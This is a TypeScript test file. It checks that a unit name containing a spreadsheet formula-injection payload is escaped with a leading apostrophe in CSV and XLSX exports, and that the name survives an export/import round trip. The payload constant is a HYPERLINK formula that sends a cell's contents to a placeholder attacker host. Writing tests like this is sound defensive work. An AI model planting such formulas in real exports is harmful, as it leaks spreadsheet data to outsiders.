// Formula injection end to end (issue 11, finding 11): a unit named =HYPERLINK(…) is inert text in the
// public open-data.csv/.xlsx and in the unit list export, and the exported list imports back with the
// name exactly as it was (nothing created, nothing changed).
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type PublishedIds, publishedCampaign } from '../support/published-fixture.ts';
import { type TestApp, createTestApp } from '../support/test-app.ts';

const NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")';
const P = '/api/public/v1';
let now = new Date('2026-11-10T03:00:00Z');
const clock = { set: (d: Date) => (now = d) };
let t: TestApp;
let ids: PublishedIds;

beforeAll(async () => {
  t = await createTestApp({ clock: () => now });
  const admin = await t.as('admin');
  const unit = (await admin.get(`/api/v1/org-units/${t.unit('C3')}`)).json();
  const renamed = await admin.patch(`/api/v1/org-units/${t.unit('C3')}`, { name: NAME, version: unit.version });
  expect(renamed.statusCode).toBe(200);
  ids = await publishedCampaign(t, clock);
}, 180_000);
afterAll(() => t?.close());

describe('a unit named =HYPERLINK(…)', () => {
  it('is written with a leading apostrophe in open-data.csv; numbers are plain', async () => {
    const csv = (await t.anonymous.get(`${P}/campaigns/${ids.campaignId}/open-data.csv`)).body;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem chi tiết"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('is a text cell with a leading apostrophe in open-data.xlsx', async () => {
    const res = await t.anonymous.get(`${P}/campaigns/${ids.campaignId}/open-data.xlsx`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const names = new Set<unknown>();
    wb.worksheets[0]!.eachRow((row, n) => n > 1 && names.add(row.getCell(2).value));
    expect(names.has(`'${NAME}`)).toBe(true);
    expect(names.has(NAME)).toBe(false);
  });

  it('the unit list export → import: the name comes back exactly, nothing changes', async () => {
    const admin = await t.as('admin');
    const exported = await admin.get('/api/v1/org-units/export');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(exported.rawPayload as unknown as ArrayBuffer);
    const cells: unknown[] = [];
    wb.worksheets[0]!.eachRow((row) => cells.push(row.getCell(2).value));
    expect(cells).toContain(`'${NAME}`);
    const back = await admin.upload('/api/v1/org-units/import', 'don-vi.xlsx', exported.rawPayload);
    expect(back.statusCode, back.body).toBe(200);
    expect(back.json()).toEqual({ created: 0, updated: 0 });
    expect((await admin.get(`/api/v1/org-units/${t.unit('C3')}`)).json().name).toBe(NAME);
  });
});
